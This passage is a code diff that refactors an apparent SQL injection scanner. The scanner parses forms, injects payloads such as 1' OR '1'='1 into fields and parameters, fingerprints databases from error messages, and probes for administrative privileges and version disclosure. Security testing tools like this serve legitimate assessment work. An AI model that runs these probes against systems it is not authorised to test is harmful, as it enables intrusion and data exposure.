+                        if not form_action.startswith(('http://', 'https://')):
+                            form_action = urljoin(base_url, form_action)
+                    else:
+                        # If no action, the form submits to the current URL
+                        form_action = base_url
+                    
+                    # Extract all input fields, including hidden ones
+                    inputs = form.find_all(['input', 'textarea', 'select'])
+                    
+                    # Skip forms already tested on another page (site-wide search boxes,
+                    # newsletter sign-ups, ...); the check and the add happen without an
+                    # await in between, so concurrent _check_forms calls cannot race
+                    form_signature = (
+                        form_action,
+                        form_method,
+                        tuple(sorted(field.get('name', '') for field in inputs))
+                    )
+                    if form_signature in self.tested_forms:
+                        continue
+                    self.tested_forms.add(form_signature)
                     
-                    # Base URL for resolving relative URLs
-                    base_url = response.get("url", url)
+                    # Create a dictionary of form fields and default values
+                    form_data = {}
+                    injectable_fields = []
                     
-                    # Test each form for SQL injection
-                    for form_index, form in enumerate(forms):
-                        form_method = form.get('method', 'get').lower()
-                        form_action = form.get('action', '')
+                    for input_field in inputs:
+                        field_type = input_field.get('type', 'text').lower()
+                        field_name = input_field.get('name', '')
                         
-                        # Handle relative URLs
-                        if form_action:
-                            if not form_action.startswith(('http://', 'https://')):
-                                form_action = urljoin(base_url, form_action)
-                        else:
-                            # If no action, the form submits to the current URL
-                            form_action = base_url
+                        # Skip fields without names or submit/button types
+                        if not field_name or field_type in ('submit', 'button', 'image', 'reset'):
+                            continue
                         
-                        # Extract all input fields, including hidden ones
-                        inputs = form.find_all(['input', 'textarea', 'select'])
+                        # Skip CSRF tokens and other security fields but capture their values
+                        # to be able to submit the form successfully
+                        if SECURITY_FIELD_RE.search(field_name):
+                            form_data[field_name] = input_field.get('value', '')
+                            continue
+                            
+                        # Get the default value of the field
+                        field_value = input_field.get('value', '')
                         
-                        # Create a dictionary of form fields and default values
-                        form_data = {}
-                        injectable_fields = []
+                        # For select elements, get the selected option
+                        if input_field.name == 'select':
+                            selected_option = input_field.find('option', selected=True)
+                            if selected_option:
+                                field_value = selected_option.get('value', '')
+                            else:
+                                # Get the first option if no option is selected
+                                first_option = input_field.find('option')
+                                if first_option:
+                                    field_value = first_option.get('value', '')
                         
-                        for input_field in inputs:
-                            field_type = input_field.get('type', 'text').lower()
-                            field_name = input_field.get('name', '')
-                            
-                            # Skip fields without names or submit/button types
-                            if not field_name or field_type in ['submit', 'button', 'image', 'reset']:
-                                continue
-                            
-                            # Skip CSRF tokens and other security fields but capture their values
-                            # to be able to submit the form successfully
-                            if any(token in field_name.lower() for token in ['csrf', 'token', 'nonce', 'captcha']):
-                                form_data[field_name] = input_field.get('value', '')
-                                continue
-                                
-                            # Get the default value of the field
-                            field_value = input_field.get('value', '')
-                            
-                            # For select elements, get the selected option
-                            if input_field.name == 'select':
-                                selected_option = input_field.find('option', selected=True)
-                                if selected_option:
-                                    field_value = selected_option.get('value', '')
-                                else:
-                                    # Get the first option if no option is selected
-                                    first_option = input_field.find('option')
-                                    if first_option:
-                                        field_value = first_option.get('value', '')
-                            
-                            # Generate appropriate test values based on field type
-                            if field_type == 'number' or field_type == 'range':
-                                test_value = '1'
-                            elif field_type == 'email':
-                                test_value = 'test@example.com'
-                            elif field_type == 'date':
-                                test_value = '2022-01-01'
-                            elif field_type == 'url':
-                                test_value = 'http://example.com'
-                            elif field_type == 'tel':
-                                test_value = '1234567890'
-                            elif field_type == 'color':
-                                test_value = '#ffffff'
-                            elif field_type == 'password':
-                                test_value = 'password123'
-                            elif field_type == 'search':
-                                test_value = 'test search'
-                            elif field_type == 'file':
-                                # Skip file upload fields for SQL injection testing
-                                form_data[field_name] = field_value
-                                continue
-                            else:  # text, hidden, etc.
-                                test_value = 'test123'
-                            
-                            # Add the field to the form data with test value
-                            form_data[field_name] = test_value
-                            
-                            # Consider most field types as injectable, including hidden fields
-                            # which are often used for ID values that might be vulnerable
-                            if field_type in ['text', 'hidden', 'password', 'search', 'number', 'email', 'tel', 'url', '']:
-                                injectable_fields.append((field_name, test_value))
-                            
-                        # Skip forms without injectable fields
-                        if not injectable_fields:
+                        # Generate appropriate test values based on field type
+                        if field_type == 'number' or field_type == 'range':
+                            test_value = '1'
+                        elif field_type == 'email':
+                            test_value = 'test@example.com'
+                        elif field_type == 'date':
+                            test_value = '2022-01-01'
+                        elif field_type == 'url':
+                            test_value = 'http://example.com'
+                        elif field_type == 'tel':
+                            test_value = '1234567890'
+                        elif field_type == 'color':
+                            test_value = '#ffffff'
+                        elif field_type == 'password':
+                            test_value = 'password123'
+                        elif field_type == 'search':
+                            test_value = 'test search'
+                        elif field_type == 'file':
+                            # Skip file upload fields for SQL injection testing
+                            form_data[field_name] = field_value
                             continue
-                            
-                        # Test each injectable field individually
-                        for field_name, field_value in injectable_fields:
-                            # Test for error-based SQL injection
-                            error_vuln = await self._test_error_sqli(
-                                form_action,
-                                field_name,
-                                field_value,
-                                "form",
-                                semaphore,
-                                method=form_method
-                            )
-                            
-                            if error_vuln:
-                                vulnerabilities.append(error_vuln)
-                                # Skip blind testing if error-based vulnerability is found
-                                continue
-                            
-                            # Test for blind SQL injection
-                            blind_vuln = await self._test_blind_sqli(
-                                form_action,
-                                field_name,
-                                field_value,
-                                "form",
-                                semaphore,
-                                method=form_method
-                            )
-                            
-                            if blind_vuln:
-                                vulnerabilities.append(blind_vuln)
-                
-                        # Test combinations of fields if there are multiple fields
-                        # This can find vulnerabilities where multiple fields are combined in a query
-                        if len(injectable_fields) > 1:
-                            # Test pairs of fields with SQL injection payloads
-                            for i, (field1_name, _) in enumerate(injectable_fields[:-1]):
-                                for field2_name, _ in injectable_fields[i+1:]:
-                                    # Create a copy of the form data for testing
-                                    test_data = form_data.copy()
-                                    
-                                    # Set SQL injection payload in first field
-                                    test_data[field1_name] = "1' OR '1'='1"
-                                    
-                                    # Send the request with the modified form data
-                                    try:
-                                        test_response = await self._make_rate_limited_request(
-                                            form_action,
-                                            method=form_method,
-                                            data=test_data if form_method == 'post' else None,
-                                            params=test_data if form_method == 'get' else None,
-                                            headers=self.headers,
-                                            semaphore=semaphore
-                                        )
-                                        
-                                        if test_response:
-                                            # Check for SQL errors in the response
-                                            for pattern in self.sql_error_patterns:
-                                                if re.search(pattern, test_response["text"], re.IGNORECASE):
-                                                    # Found SQL error with field combination
-                                                    dbms_type = self._identify_dbms_from_error(test_response["text"])
-                                                    dbms_info = f" ({dbms_type})" if dbms_type else ""
-                                                    
-                                                    vulnerability = {
-                                                        "id": str(uuid.uuid4()),
-                                                        "name": f"SQL Injection in Form Fields{dbms_info}",
-                                                        "description": f"A SQL injection vulnerability was detected in the combination of form fields '{field1_name}' and '{field2_name}'.",
-                                                        "severity": "high",
-                                                        "url": form_action,
-                                                        "parameter": f"{field1_name},{field2_name}",
-                                                        "evidence": f"Fields: {field1_name}, {field2_name}\nPayload: 1' OR '1'='1\nForm method: {form_method}",
-                                                        "remediation": "Use parameterized queries or prepared statements. Validate and sanitize all form inputs."
-                                                    }
-                                                    
-                                                    vulnerabilities.append(vulnerability)
-                                                    break
-                                    except Exception as e:
-                                        logger.error(f"Error testing form field combination on {form_action}: {str(e)}")
-                
-                # Also check for forms created dynamically with JavaScript
-                # by looking for form-like structures in the HTML
-                try:
-                    input_elements = soup.find_all('input')
-                    if input_elements:
-                        potential_form_groups = {}
+                        else:  # text, hidden, etc.
+                            test_value = 'test123'
+                        
+                        # Add the field to the form data with test value
+                        form_data[field_name] = test_value
+                        
+                        # Consider most field types as injectable, including hidden fields
+                        # which are often used for ID values that might be vulnerable
+                        if field_type in INJECTABLE_FIELD_TYPES:
+                            injectable_fields.append((field_name, test_value))
+                        
+                    # Skip forms without injectable fields
+                    if not injectable_fields:
+                        continue
                         
-                        # Group input elements by their parent containers
-                        for input_el in input_elements:
-                            if input_el.get('name'):
-                                parent = input_el.parent
-                                if parent not in potential_form_groups:
-                                    potential_form_groups[parent] = []
-                                potential_form_groups[parent].append(input_el)
+                    # Test each injectable field individually
+                    for field_name, field_value in injectable_fields:
+                        # Test for error-based SQL injection
+                        error_vuln = await self._test_error_sqli(
+                            form_action,
+                            field_name,
+                            field_value,
+                            "form",
+                            semaphore,
+                            method=form_method
+                        )
                         
-                        # Test potential form groups with multiple inputs
-                        for parent, inputs in potential_form_groups.items():
-                            if len(inputs) >= 2:  # At least 2 inputs to be a potential form
-                                injectable_fields = []
+                        if error_vuln:
+                            vulnerabilities.append(error_vuln)
+                            # Skip blind testing if error-based vulnerability is found
+                            continue
+                        
+                        # Test for blind SQL injection
+                        blind_vuln = await self._test_blind_sqli(
+                            form_action,
+                            field_name,
+                            field_value,
+                            "form",
+                            semaphore,
+                            method=form_method
+                        )
+                        
+                        if blind_vuln:
+                            vulnerabilities.append(blind_vuln)
+            
+                    # Test combinations of fields if there are multiple fields
+                    # This can find vulnerabilities where multiple fields are combined in a query
+                    if len(injectable_fields) > 1:
+                        # Test pairs of fields with SQL injection payloads. Only the first
+                        # field of a pair carries the payload, so each field's request is
+                        # sent once and a finding is reported for every pair it starts
+                        for i, (field1_name, _) in enumerate(injectable_fields[:-1]):
+                            # Copy the base form data, overriding only the injected field
+                            test_data = form_data.copy()
+                            test_data[field1_name] = "1' OR '1'='1"
+                            
+                            # Send the request with the modified form data
+                            try:
+                                test_response = await self._make_rate_limited_request(
+                                    form_action,
+                                    method=form_method,
+                                    data=test_data if form_method == 'post' else None,
+                                    params=test_data if form_method == 'get' else None,
+                                    headers=self.headers,
+                                    semaphore=self._host_semaphore(form_action)
+                                )
                                 
-                                for input_el in inputs:
-                                    field_name = input_el.get('name', '')
-                                    field_type = input_el.get('type', 'text').lower()
+                                # Check for SQL errors in the response
+                                if test_response and self.sql_error_matcher.search(test_response["text"]) is not None:
+                                    # Found SQL error with field combination
+                                    dbms_type = self._identify_dbms_from_error(test_response["text"])
+                                    dbms_info = f" ({dbms_type})" if dbms_type else ""
                                     
-                                    if field_name and field_type in ['text', 'hidden', 'password', 'search', 'number']:
-                                        injectable_fields.append((field_name, '1'))
+                                    for field2_name, _ in injectable_fields[i+1:]:
+                                        vulnerability = {
+                                            "id": str(uuid.uuid4()),
+                                            "name": f"SQL Injection in Form Fields{dbms_info}",
+                                            "description": f"A SQL injection vulnerability was detected in the combination of form fields '{field1_name}' and '{field2_name}'.",
+                                            "severity": "high",
+                                            "url": form_action,
+                                            "parameter": f"{field1_name},{field2_name}",
+                                            "evidence": f"Fields: {field1_name}, {field2_name}\nPayload: 1' OR '1'='1\nForm method: {form_method}",
+                                            "remediation": "Use parameterized queries or prepared statements. Validate and sanitize all form inputs."
+                                        }
+                                        
+                                        vulnerabilities.append(vulnerability)
+                            except Exception as e:
+                                logger.error(f"Error testing form field combination on {form_action}: {str(e)}")
+            
+            # Also check for forms created dynamically with JavaScript
+            # by looking for form-like structures in the HTML
+            try:
+                input_elements = soup.find_all('input')
+                if input_elements:
+                    potential_form_groups = {}
+                    
+                    # Group input elements by their parent containers
+                    for input_el in input_elements:
+                        if input_el.get('name'):
+                            parent = input_el.parent
+                            if parent not in potential_form_groups:
+                                potential_form_groups[parent] = []
+                            potential_form_groups[parent].append(input_el)
+                    
+                    # Test potential form groups with multiple inputs
+                    for parent, inputs in potential_form_groups.items():
+                        if len(inputs) >= 2:  # At least 2 inputs to be a potential form
+                            injectable_fields = []
+                            
+                            for input_el in inputs:
+                                field_name = input_el.get('name', '')
+                                field_type = input_el.get('type', 'text').lower()
                                 
-                                # Test each potential form field
-                                for field_name, field_value in injectable_fields:
-                                    # Test for error-based SQL injection on the current URL
-                                    # (since we don't know the form's submission endpoint)
-                                    error_vuln = await self._test_error_sqli(
-                                        url,
-                                        field_name,
-                                        field_value,
-                                        "form",
-                                        semaphore,
-                                        method="post"  # Assume POST as default for dynamic forms
-                                    )
-                                    
-                                    if error_vuln:
-                                        vulnerabilities.append(error_vuln)
-                except Exception as e:
-                    logger.error(f"Error checking dynamic forms on {url}: {str(e)}")
+                                if field_name and field_type in DYNAMIC_FIELD_TYPES:
+                                    injectable_fields.append((field_name, '1'))
+                            
+                            # Test each potential form field
+                            for field_name, field_value in injectable_fields:
+                                # Test for error-based SQL injection on the current URL
+                                # (since we don't know the form's submission endpoint)
+                                error_vuln = await self._test_error_sqli(
+                                    url,
+                                    field_name,
+                                    field_value,
+                                    "form",
+                                    semaphore,
+                                    method="post"  # Assume POST as default for dynamic forms
+                                )
+                                
+                                if error_vuln:
+                                    vulnerabilities.append(error_vuln)
             except Exception as e:
-                logger.error(f"Error checking forms on {url}: {str(e)}")
-        
+                logger.error(f"Error checking dynamic forms on {url}: {str(e)}")
+        except Exception as e:
+            logger.error(f"Error checking forms on {url}: {str(e)}")
+    
         return vulnerabilities
     
     async def _check_headers(self, url: str, semaphore: asyncio.Semaphore) -> List[Dict[str, Any]]:
@@ -2880,7 +3450,8 @@ class EnhancedSQLScanner:
     async def _make_rate_limited_request(self, url: str, method="GET", data=None, 
                                    headers=None, params=None, json_data=None, 
                                    semaphore=None, retries=3,
-                                   allow_redirects=True) -> Optional[Dict[str, Any]]:
+                                   allow_redirects=True, timeout=None,
+                                   sample_rtt=False) -> Optional[Dict[str, Any]]:
         """
         Make a rate-limited HTTP request with retry logic.
         
@@ -2894,6 +3465,9 @@ class EnhancedSQLScanner:
             semaphore: Semaphore for limiting concurrent requests
             retries: Maximum number of retries
             allow_redirects: Whether to follow redirects
+            timeout: Optional aiohttp.ClientTimeout overriding the session default
+            sample_rtt: Whether the response time feeds the host's RTT estimate;
+                only for requests without payloads or deliberate delays
             
         Returns:
             Optional[Dict[str, Any]]: Response data or None if request failed
@@ -2906,6 +3480,7 @@ class EnhancedSQLScanner:
             headers = self.headers.copy()
         
         # Start retry loop with exponential backoff
+        loop = asyncio.get_running_loop()
         retry_count = 0
         last_error = None
         
@@ -2914,21 +3489,26 @@ class EnhancedSQLScanner:
                 # Apply rate limiting
                 await self._apply_rate_limiting(hostname)
                 
-                # Acquire semaphore if provided
+                # Acquire semaphore if provided; response times use the monotonic loop clock
                 if semaphore:
                     async with semaphore:
-                        start_time = time.time()
+                        start_time = loop.time()
                         response = await self._perform_request(url, method, data, headers, params, 
-                                                        json_data, allow_redirects)
-                        response_time = time.time() - start_time
+                                                        json_data, allow_redirects, timeout)
+                        response_time = loop.time() - start_time
                 else:
-                    start_time = time.time()
+                    start_time = loop.time()
                     response = await self._perform_request(url, method, data, headers, params, 
-                                                    json_data, allow_redirects)
-                    response_time = time.time() - start_time
+                                                    json_data, allow_redirects, timeout)
+                    response_time = loop.time() - start_time
+                
+                # Only the round trip is recorded; rate-limit and backoff waits are excluded
+                response["duration"] = response_time
                 
                 # Report success with response time
                 self.rate_limiter.report_success(hostname, response_time)
+                if sample_rtt:
+                    self.rate_limiter.sample_rtt(hostname, response_time)
                 
                 # Return the response data
                 return response
@@ -2958,7 +3538,7 @@ class EnhancedSQLScanner:
                 if retry_count <= retries and error_type == "transient":
                     # Calculate backoff time with jitter
                     backoff_time = min(60, (2 ** retry_count)) * random.uniform(0.75, 1.25)
-                    logger.debug(f"Retrying in {backoff_time:.2f}s (attempt {retry_count}/{retries})")
+                    logger.debug("Retrying in %.2fs (attempt %s/%s)", backoff_time, retry_count, retries)
                     await asyncio.sleep(backoff_time)
                 else:
                     # Critical error or out of retries
@@ -2969,7 +3549,7 @@ class EnhancedSQLScanner:
         return None
         
     async def _perform_request(self, url: str, method, data, headers, params, 
-                        json_data, allow_redirects) -> Dict[str, Any]:
+                        json_data, allow_redirects, timeout=None) -> Dict[str, Any]:
         """
         Perform the actual HTTP request.
         
@@ -2981,35 +3561,121 @@ class EnhancedSQLScanner:
             params: URL parameters
             json_data: JSON data for request body
             allow_redirects: Whether to follow redirects
+            timeout: Optional aiohttp.ClientTimeout overriding the session default
             
         Returns:
             Dict[str, Any]: Response data
         """
         # Log the request
-        logger.debug(f"Making {method} request to {url}")
+        logger.debug("Making %s request to %s", method, url)
+        
+        session = await self._get_session()
+        async with session.request(
+            method=method,
+            url=url,
+            data=data,
+            headers=headers,
+            params=params,
+            json=json_data,
+            allow_redirects=allow_redirects,
+            # aiohttp treats timeout=None as "no timeout", so fall back explicitly
+            timeout=timeout if timeout is not None else session.timeout
+        ) as response:
+            # Read at most MAX_RESPONSE_BYTES of the body
+            text = await _read_capped(response)
+            
+            # Return response data
+            return {
+                "status": response.status,
+                "text": text,
+                "url": str(response.url),
+                "headers": {k.lower(): v for k, v in response.headers.items()},
+                "duration": 0.0  # Set by _make_rate_limited_request
+            }
+    
+    def _host_semaphore(self, url: str) -> asyncio.Semaphore:
+        """
+        Get the semaphore bounding concurrent requests to the URL's host.
         
-        async with aiohttp.ClientSession() as session:
-            async with session.request(
-                method=method,
-                url=url,
-                data=data,
-                headers=headers,
-                params=params,
-                json=json_data,
-                allow_redirects=allow_redirects,
-                timeout=aiohttp.ClientTimeout(total=15)  # 15 second timeout
-            ) as response:
-                # Read response text
-                text = await response.text()
-                
-                # Return response data
-                return {
-                    "status": response.status,
-                    "text": text,
-                    "url": str(response.url),
-                    "headers": {k.lower(): v for k, v in response.headers.items()},
-                    "duration": 0.0  # Will be calculated in calling function
-                }
+        Held only around individual requests, so requests queued for a slow
+        host never hold up requests to other hosts.
+        """
+        netloc = _parse_url(url).netloc
+        semaphore = self._host_semaphores.get(netloc)
+        if semaphore is None:
+            semaphore = self._host_semaphores[netloc] = asyncio.Semaphore(self.max_requests_per_host)
+        return semaphore
+    
+    async def _get_network_noise(self, url: str) -> Optional[Tuple[float, float]]:
+        """
+        Get the (mean, standard deviation) of plain request times for the URL's host.
+        
+        Measured once per host per scan; concurrent callers share the measurement.
+        """
+        netloc = _parse_url(url).netloc
+        measurement = self._network_noise.get(netloc)
+        if measurement is None:
+            measurement = self._network_noise[netloc] = asyncio.ensure_future(
+                self._measure_network_noise(url)
+            )
+        return await asyncio.shield(measurement)
+    
+    async def _measure_network_noise(self, url: str) -> Optional[Tuple[float, float]]:
+        """
+        Time NETWORK_NOISE_SAMPLES sequential payload-free requests to the URL.
+        
+        Each sample is the request's own round trip (its "duration"), so time
+        spent waiting on the rate limiter while other parameters of the host
+        are tested does not count as network noise.
+        
+        Returns:
+            (mean, standard deviation) in seconds, or None if any request failed
+            or returned an error status; an error page's quick reply says
+            nothing about how the real page's timing varies
+        """
+        samples = []
+        for _ in range(NETWORK_NOISE_SAMPLES):
+            response = await self._make_rate_limited_request(
+                url,
+                method="GET",
+                headers=self.headers,
+                semaphore=None,
+                retries=0,
+                sample_rtt=True
+            )
+            if not response or response["status"] >= 400:
+                return None
+            samples.append(response["duration"])
+        return statistics.mean(samples), statistics.stdev(samples)
+    
+    async def _get_session(self) -> aiohttp.ClientSession:
+        """
+        Get the scanner's shared HTTP session, creating it on first use.
+        
+        Reusing one session keeps connections alive and caches DNS lookups,
+        so each payload request does not pay for a new TCP/TLS handshake.
+        The connector's limits also bound how many requests are in flight,
+        so pure HTTP probes do not need to hold the scan semaphore.
+        """
+        if self._session is None or self._session.closed:
+            self._session = aiohttp.ClientSession(
+                connector=aiohttp.TCPConnector(
+                    limit=self.max_concurrent_requests * 2,
+                    limit_per_host=self.max_requests_per_host,
+                    ttl_dns_cache=300,
+                    keepalive_timeout=30,  # Keep idle connections for the next probe
+                    enable_cleanup_closed=True  # Reclaim sockets of aborted TLS connections
+                ),
+                timeout=aiohttp.ClientTimeout(total=15),  # 15 second timeout
+                json_serialize=_orjson_dumps  # JSON payload bodies are encoded with orjson
+            )
+        return self._session
+    
+    async def close(self) -> None:
+        """Close the shared HTTP session if one is open."""
+        if self._session is not None and not self._session.closed:
+            await self._session.close()
+        self._session = None
 
     def _generate_boolean_test_payloads(self, param_value: str) -> List[Dict[str, Any]]:
         """
@@ -3023,50 +3689,58 @@ class EnhancedSQLScanner:
         Returns:
             List of payloads with expected behavior
         """
-        payloads = []
-        
-        # For each test, create both a true and false variant
-        # Test with different quote styles and parentheses combinations
-        for use_parenthesis in (False, True):
-            for separator in ("", "'", "\""):
-                # Generate random numbers for the test conditions
-                for _ in range(2):  # Create 2 negative tests
-                    value1 = random.randint(10, 99)
-                    value2 = random.randint(10, 99) + value1  # Ensure different values
-                    padding_value = random.randint(10, 99)
-                    
-                    # Format string with or without parentheses
-                    if use_parenthesis:
-                        fmt_string = f"{param_value}{separator}) AND {value1}={value2} AND ({separator}{padding_value}{separator}={separator}{padding_value}"
-                    else:
-                        fmt_string = f"{param_value}{separator} AND {value1}={value2} AND {separator}{padding_value}{separator}={separator}{padding_value}"
-                    
-                    # This should evaluate to false and not change the page
-                    payloads.append({
-                        "payload": fmt_string,
-                        "expected_result": False,
-                        "type": "boolean"
-                    })
+        return list(_boolean_test_payloads(param_value))
+
+    async def _probe_admin_privileges(self, url: str, param_name: str, param_value: str,
+                                      dbms_type: str, location_type: str, method: str) -> bool:
+        """
+        Check whether the injected query appears to run with administrative privileges.
+        
+        Returns:
+            True if a privilege payload was accepted without a SQL error
+        """
+        for payload_template in ADMIN_PRIVILEGE_PAYLOADS.get(dbms_type, ()):
+            payload = payload_template.format(value=param_value)
+            try:
+                response = await self._send_payload_request(
+                    url, param_name, payload, location_type, method
+                )
                 
-                # Generate random numbers for true conditions
-                for _ in range(2):  # Create 2 positive tests
-                    value1 = random.randint(10, 99)
-                    padding_value = random.randint(10, 99)
-                    
-                    # Format string with or without parentheses
-                    if use_parenthesis:
-                        fmt_string = f"{param_value}{separator}) AND {value1}={value1} AND ({separator}{padding_value}{separator}={separator}{padding_value}"
-                    else:
-                        fmt_string = f"{param_value}{separator} AND {value1}={value1} AND {separator}{padding_value}{separator}={separator}{padding_value}"
-                    
-                    # This should evaluate to true and maintain the original page
-                    payloads.append({
-                        "payload": fmt_string,
-                        "expected_result": True,
-                        "type": "boolean"
-                    })
+                # Check if response is different from error responses
+                # If it doesn't error, the condition might be true
+                if response and response.get("status") == 200:
+                    if self.sql_error_matcher.search(response["text"]) is None:
+                        return True
+            except Exception:
+                continue
         
-        return payloads
+        return False
+    
+    async def _probe_dbms_version(self, url: str, param_name: str, payload: str,
+                                  location_type: str, method: str) -> Optional[str]:
+        """
+        Send a single version-disclosure payload and extract a version string.
+        
+        Returns:
+            The matched version text, or None if the response revealed nothing
+        """
+        response = await self._send_payload_request(
+            url, param_name, payload, location_type, method
+        )
+        
+        if not response or not response.get("text"):
+            return None
+        
+        # Look for common version formats in the response
+        text = response["text"]
+        if VERSION_ANY_RE.search(text) is None:
+            return None
+        for pattern in VERSION_PATTERNS:
+            match = pattern.search(text)
+            if match:
+                return match.group(0)
+        
+        return None
 
     def _identify_dbms_from_error(self, response_text: str) -> str:
         """
@@ -3079,93 +3753,123 @@ class EnhancedSQLScanner:
         Returns:
             String identifier of the database or empty string if not identified
         """
-        # Check for MySQL
-        mysql_patterns = [
-            r"sql syntax.*mysql",
-            r"warning.*mysql",
-            r"mysql.*error",
-            r"MySQLSyntaxErrorException",
-            r"valid MySQL result",
-            r"check the manual that (corresponds to|fits) your MySQL server version",
-            r"MySqlClient\."
-        ]
-        for pattern in mysql_patterns:
-            if re.search(pattern, response_text, re.IGNORECASE):
-                return "MySQL"
-                
-        # Check for MariaDB
-        if re.search(r"check the manual that (corresponds to|fits) your MariaDB server version", 
-                    response_text, re.IGNORECASE):
-            return "MariaDB"
-                
-        # Check for PostgreSQL
-        postgres_patterns = [
-            r"postgresql.*error",
-            r"PostgreSQL.*?ERROR",
-            r"ERROR:\s\ssyntax error at or near",
-            r"ERROR: parser: parse error at or near",
-            r"PostgreSQL query failed"
-        ]
-        for pattern in postgres_patterns:
-            if re.search(pattern, response_text, re.IGNORECASE):
-                return "PostgreSQL"
-                
-        # Check for Microsoft SQL Server
-        mssql_patterns = [
-            r"microsoft.*database",
-            r"microsoft.*driver",
-            r"microsoft.*server",
-            r"microsoft.* sql",
-            r"Driver.*? SQL[\-\_\ ]*Server",
-            r"OLE DB.*? SQL Server",
-            r"\bSQL Server[^&lt;&quot;]+Driver",
-            r"\[SQL Server\]",
-            r"ODBC SQL Server Driver"
-        ]
-        for pattern in mssql_patterns:
-            if re.search(pattern, response_text, re.IGNORECASE):
-                return "Microsoft SQL Server"
-                
-        # Check for Oracle
-        oracle_patterns = [
-            r"oracle.*error",
-            r"oracle.*driver",
-            r"ora-[0-9]",
-            r"\bORA-\d{5}",
-            r"Oracle error"
-        ]
-        for pattern in oracle_patterns:
-            if re.search(pattern, response_text, re.IGNORECASE):
-                return "Oracle"
-                
-        # Check for SQLite
-        sqlite_patterns = [
-            r"sqlite.*error",
-            r"sqlite.*syntax",
-            r"SQLite/JDBCDriver",
-            r"SQLite\.Exception",
-            r"\[SQLITE_ERROR\]"
-        ]
-        for pattern in sqlite_patterns:
-            if re.search(pattern, response_text, re.IGNORECASE):
-                return "SQLite"
-                
-        # Check for generic SQL errors
-        generic_patterns = [
-            r"sql syntax.*error",
-            r"syntax error.*sql",
-            r"sql command.*not properly ended",
-            r"sqlexception",
-            r"sqlstate",
-            r"unclosed.*mark"
-        ]
-        for pattern in generic_patterns:
-            if re.search(pattern, response_text, re.IGNORECASE):
-                return "SQL Database"
+        # Families are checked in priority order, one compiled alternation each
+        for dbms, signature in DBMS_ERROR_SIGNATURES:
+            if signature.search(response_text):
+                return dbms
                 
         # No specific database identified
         return ""
 
+    async def _probe_common_params(self, url: str, semaphore: asyncio.Semaphore) -> List[Dict[str, Any]]:
+        """
+        Add common parameter names to a URL without a query string and test them.
+        This can find hidden vulnerabilities in endpoints that expect parameters.
+        
+        Args:
+            url: The URL to probe
+            semaphore: Semaphore for limiting concurrent requests
+            
+        Returns:
+            List of vulnerabilities found
+        """
+        if _parse_url(url).query:
+            return []
+        
+        if not await self._endpoint_reachable(url):
+            return []
+        
+        common_params = ['id', 'search', 'query', 'item', 'page', 'user', 'cat', 'product']
+        separator = '&' if '?' in url else '?'
+        param_urls = []
+        for param in common_params:
+            # Add a simple numeric value as parameter, and a string value too
+            # (some endpoints behave differently)
+            param_urls.append(f"{url}{separator}{param}=1")
+            param_urls.append(f"{url}{separator}{param}=test")
+        
+        return await self._check_extra_urls(param_urls, semaphore)
+    
+    async def _probe_search_params(self, url: str, semaphore: asyncio.Semaphore) -> List[Dict[str, Any]]:
+        """
+        Test common search query parameter names, many search forms are vulnerable.
+        
+        Args:
+            url: The URL to probe
+            semaphore: Semaphore for limiting concurrent requests
+            
+        Returns:
+            List of vulnerabilities found
+        """
+        if not await self._endpoint_reachable(url):
+            return []
+        
+        search_params = ['q', 'search', 'query', 'find', 'keyword', 'term']
+        separator = '&' if '?' in url else '?'
+        search_urls = [f"{url}{separator}{param}=test" for param in search_params]
+        
+        return await self._check_extra_urls(search_urls, semaphore)
+    
+    async def _endpoint_reachable(self, url: str) -> bool:
+        """
+        Cheaply check with a HEAD request whether an endpoint exists.
+        
+        Parameter probing fans out into many candidate URLs, each with its own
+        baseline and payload requests; a path that answers 404 (or not at all)
+        is skipped up front. Servers that reject HEAD itself count as reachable.
+        """
+        reachable = self.endpoint_reachability.get(url)
+        if reachable is not None:
+            return reachable
+        
+        try:
+            session = await self._get_session()
+            async with session.head(
+                url,
+                headers=self.headers,
+                allow_redirects=True,
+                timeout=aiohttp.ClientTimeout(total=5)
+            ) as response:
+                reachable = response.status < 400 or response.status in (405, 501)
+        except (aiohttp.ClientError, asyncio.TimeoutError):
+            reachable = False
+        
+        self.endpoint_reachability[url] = reachable
+        return reachable
+    
+    async def _check_extra_urls(self, urls: List[str], semaphore: asyncio.Semaphore) -> List[Dict[str, Any]]:
+        """
+        Check a batch of candidate URLs concurrently, stopping once one is vulnerable.
+        
+        All checks are dispatched at once (the semaphore bounds the requests in
+        flight); when a check reports vulnerabilities the remaining ones are
+        cancelled to avoid excessive testing.
+        
+        Args:
+            urls: Candidate URLs to test
+            semaphore: Semaphore for limiting concurrent requests
+            
+        Returns:
+            List of vulnerabilities found
+        """
+        vulnerabilities = []
+        tasks = [asyncio.create_task(self._check_url_parameters(u, semaphore)) for u in urls]
+        try:
+            for task in asyncio.as_completed(tasks):
+                try:
+                    result = await task
+                except Exception as e:
+                    logger.debug("Error checking candidate URL: %s", e)
+                    continue
+                if result:
+                    vulnerabilities.extend(result)
+                    break  # Found vulnerability, no need to test more candidates
+        finally:
+            for task in tasks:
+                task.cancel()
+        
+        return vulnerabilities
+    
     async def _process_url(self, url: str, semaphore: asyncio.Semaphore) -> List[Dict[str, Any]]:
         """
         Process a single URL by checking it for SQL injection vulnerabilities using all available check methods.
@@ -3184,57 +3888,34 @@ class EnhancedSQLScanner:
             if not hasattr(self, 'domain_throttling'):
                 self.domain_throttling = defaultdict(int)
                 
-            # Test the URL for parameter-based SQL injection
-            params_vulns = await self._check_url_parameters(url, semaphore)
-            vulnerabilities.extend(params_vulns)
-            
-            # If the URL doesn't have parameters, try to add some common parameter names
-            # This can find hidden vulnerabilities in endpoints that expect parameters
-            parsed_url = urlparse(url)
-            if not parsed_url.query:
-                common_params = ['id', 'search', 'query', 'item', 'page', 'user', 'cat', 'product']
-                for param in common_params:
-                    # Add a simple numeric value as parameter
-                    param_url = f"{url}{'&' if '?' in url else '?'}{param}=1"
-                    param_vulns = await self._check_url_parameters(param_url, semaphore)
-                    vulnerabilities.extend(param_vulns)
-                    
-                    # Try with string value too (some endpoints behave differently)
-                    param_url = f"{url}{'&' if '?' in url else '?'}{param}=test"
-                    param_vulns = await self._check_url_parameters(param_url, semaphore)
-                    vulnerabilities.extend(param_vulns)
-                    
-                    # Break early if we find vulnerabilities to avoid excessive testing
-                    if param_vulns:
-                        break
-            
-            # Test the URL for form-based SQL injection with enhanced form detection
-            form_vulns = await self._check_forms(url, semaphore)
-            vulnerabilities.extend(form_vulns)
-            
-            # Test common search form query parameter variations
-            # Many search forms are vulnerable to SQL injection
-            search_params = ['q', 'search', 'query', 'find', 'keyword', 'term']
-            for param in search_params:
